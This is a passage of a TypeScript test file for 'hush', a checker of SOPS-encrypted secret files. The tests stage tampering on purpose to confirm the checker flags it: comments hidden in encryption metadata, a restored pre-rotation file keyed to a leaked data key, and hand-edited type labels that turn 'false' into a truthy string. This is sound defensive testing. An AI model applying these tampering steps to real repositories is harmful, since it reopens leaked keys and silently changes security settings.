    const lenient = checkJson(repo, []);
    expect(lenient.status, JSON.stringify(lenient.report)).toBe(1);
    expect(problemsOf(lenient.report, "in.enc.yaml")).toEqual(["warning metadata-comment"]);
    expect(problemsOf(lenient.report, "stream.enc.yaml")).toEqual(["error metadata-ambiguous"]);
    const r = checkJson(repo, ["--strict"]);
    expect(r.status).toBe(1);
    for (const path of ["in.enc.yaml", "after.enc.yaml", "app.enc.ini", "app.enc.toml"]) expect(problemsOf(r.report, path), path).toEqual(["error metadata-comment"]);
    expect(problemsOf(r.report, "stream.enc.yaml")).toEqual(["error metadata-ambiguous"]);
    expect(problemsOf(r.report, "clean.enc.yaml")).toEqual([]);
    const ini = r.report.files.find((f) => f.path === "app.enc.ini")!.problems[0]!;
    expect(ini.line).toBe(readFileSync(join(repo, "app.enc.ini"), "utf8").split("\n").indexOf("; hidden-secret-3") + 1);
    expect(ini.message).toContain("a comment line in the sops metadata");
    expect(JSON.stringify(r.report)).not.toContain("hidden-secret");
    // A rewrite by a key holder drops the hidden text.
    expect(hush(sb, ["rotate", "-i", "stream.enc.yaml", "in.enc.yaml"], { cwd: repo }).status).toBe(0);
    expect(problemsOf(checkJson(repo, ["--strict"]).report, "stream.enc.yaml")).toEqual([]);
    expect(problemsOf(checkJson(repo, ["--strict"]).report, "in.enc.yaml")).toEqual([]);
  });
});

describe("hush check --base: a branch that puts back an older version of an encrypted file", () => {
  /** Waits into the next second: `lastmodified` counts whole seconds. */
  const nextSecond = (): Promise<void> => new Promise((r) => setTimeout(r, 1100 - (Date.now() % 1000)));

  it("is reported when the key entries are an older data key's (a rotation undone), not for a revert of a value", async () => {
    const repo = setUpCoveredRepo(sb, "rollback");
    const file = join(repo, "secrets", "app.yaml");
    const leaked = git(sb, repo, ["rev-parse", "HEAD"]).stdout.trim();
    await nextSecond();
    // main draws a fresh data key (the old one leaked): same recipients, so nothing else shows it.
    const rotate = hush(sb, ["rotate", "-i", "-y", "secrets/app.yaml"], { cwd: repo });
    expect(rotate.status, rotate.stderr).toBe(0);
    commitAll(sb, repo, "rotate");
    await nextSecond();
    expect(hush(sb, ["set", "secrets/app.yaml", '["password"]', '"after-the-rotation"'], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "new password");

    // A value's change reverted: same key entries, nothing to report.
    git(sb, repo, ["checkout", "-q", "-b", "revert-value"]);
    git(sb, repo, ["revert", "--no-edit", "HEAD"]);
    const reverted = checkJson(repo, ["--strict", "--base", "main"]);
    expect(problemsOf(reverted.report, "secrets/app.yaml")).toEqual([]);
    expect(reverted.status).toBe(0);

    // The version from before the rotation put back, as anyone can without a key: it opens, with
    // the leaked data key, and every value added to it from now on would be open to it.
    git(sb, repo, ["checkout", "-q", "main"]);
    git(sb, repo, ["checkout", "-q", "-b", "put-back"]);
    git(sb, repo, ["checkout", leaked, "--", "secrets/app.yaml"]);
    commitAll(sb, repo, "restore");
    expect(hush(sb, ["decrypt", "secrets/app.yaml"], { cwd: repo }).stdout).toBe("password: committed-secret-1\n");
    expectBaseWarning(repo, "secrets/app.yaml", "rolled-back", /^secrets\/app\.yaml: error: an older version of the file is back: lastmodified \S+ is before \S+, which it had where this branch started \([0-9a-f]{10}\), and its key entries are not those; .* \[rolled-back\]$/m);
    expect(readFileSync(file, "utf8")).toBe(git(sb, repo, ["show", `${leaked}:secrets/app.yaml`]).stdout);
  });
});

describe("hush check --base: a branch that relabels a value's type without the key", () => {
  it("reports each value whose ciphertext is the one at the merge base under another type label, not a value set anew", () => {
    const repo = setUpCoveredRepo(sb, "retype");
    const file = join(repo, "secrets", "app.yaml");
    expect(hush(sb, ["set", "secrets/app.yaml", '["auth_disabled"]', "false"], { cwd: repo }).status).toBe(0);
    expect(hush(sb, ["set", "secrets/app.yaml", '["port"]', "5432"], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "settings");

    // A value set anew with another type is re-encrypted: not reported.
    git(sb, repo, ["checkout", "-q", "-b", "honest"]);
    expect(hush(sb, ["set", "secrets/app.yaml", '["port"]', '"5432"'], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "port as a string");
    expect(problemsOf(checkJson(repo, ["--strict", "--base", "main"]).report, "secrets/app.yaml")).toEqual([]);

    // The labels edited by hand: SOPS and hush both decrypt "False" (true to most languages) and "5432".
    git(sb, repo, ["checkout", "-q", "main"]);
    git(sb, repo, ["checkout", "-q", "-b", "relabel"]);
    const encrypted = readFileSync(file, "utf8");
    writeFileSync(file, encrypted.replace(/^(auth_disabled: ENC\[[^\n]*)type:bool\]/m, "$1type:str]").replace(/^(port: ENC\[[^\n]*)type:int\]/m, "$1type:str]"));
    commitAll(sb, repo, "relabel");
    expect(hush(sb, ["decrypt", "secrets/app.yaml"], { cwd: repo }).stdout).toBe('password: committed-secret-1\nauth_disabled: "False"\nport: "5432"\n');
    expect(checkJson(repo, []).status).toBe(0);
    const found = checkJson(repo, ["--base", "main"]);
    expect(found.status).toBe(1);
    expect(problemsOf(found.report, "secrets/app.yaml")).toEqual(['error retyped-value ["auth_disabled"]', 'error retyped-value ["port"]']);
    const text = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expect(text.stdout).toMatch(/^secrets\/app\.yaml:2: error: the value at \["auth_disabled"\] \(line 2\) is labelled str but holds the ciphertext it had as bool at [0-9a-f]{10}: .* \[retyped-value\]$/m);

    // The same relabelled text as a new file, or the file renamed: compared with the file it copies,
    // not with a note at the base that quotes its MAC (git grep finds notes.md first).
    git(sb, repo, ["checkout", "-q", "main"]);
    const mac = /^ {4}mac: (.*)$/m.exec(readFileSync(file, "utf8"))![1]!;
    writeFileSync(join(repo, "notes.md"), `The MAC of secrets/app.yaml was ${mac}\n`);
    commitAll(sb, repo, "a note");
    git(sb, repo, ["checkout", "-q", "-b", "copy"]);
    writeFileSync(join(repo, "secrets", "app-exact.yaml"), readFileSync(file, "utf8"));
    writeFileSync(join(repo, "secrets", "app-v2.yaml"), readFileSync(file, "utf8").replace(/^(auth_disabled: ENC\[[^\n]*)type:bool\]/m, "$1type:str]"));
    git(sb, repo, ["mv", "secrets/app.yaml", "secrets/renamed.yaml"]);
    writeFileSync(join(repo, "secrets", "renamed.yaml"), readFileSync(join(repo, "secrets", "renamed.yaml"), "utf8").replace(/^(port: ENC\[[^\n]*)type:int\]/m, "$1type:str]"));
    commitAll(sb, repo, "copy and rename");
    const copied = checkJson(repo, ["--base", "main"]);
    expect(copied.status).toBe(1);
    expect(problemsOf(copied.report, "secrets/app-v2.yaml")).toEqual(['error retyped-value ["auth_disabled"]']);
    expect(problemsOf(copied.report, "secrets/renamed.yaml")).toEqual(['error retyped-value ["port"]']);
    expect(problemsOf(copied.report, "secrets/app-exact.yaml")).toEqual([]);
    const copiedText = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expect(copiedText.stdout).toMatch(/^secrets\/app-v2\.yaml:2: error: the value at \["auth_disabled"\] \(line 2\) is labelled str but holds the ciphertext it had as bool at [0-9a-f]{10}:secrets\/app\.yaml: .* \[retyped-value\]$/m);
    // A new file of its own (its own MAC) is compared with nothing.
    writeEncrypted(sb, repo, "secrets/fresh.yaml", "flag: false\n");
    commitAll(sb, repo, "a new file");
    expect(problemsOf(checkJson(repo, ["--base", "main"]).report, "secrets/fresh.yaml")).toEqual([]);
  });
});
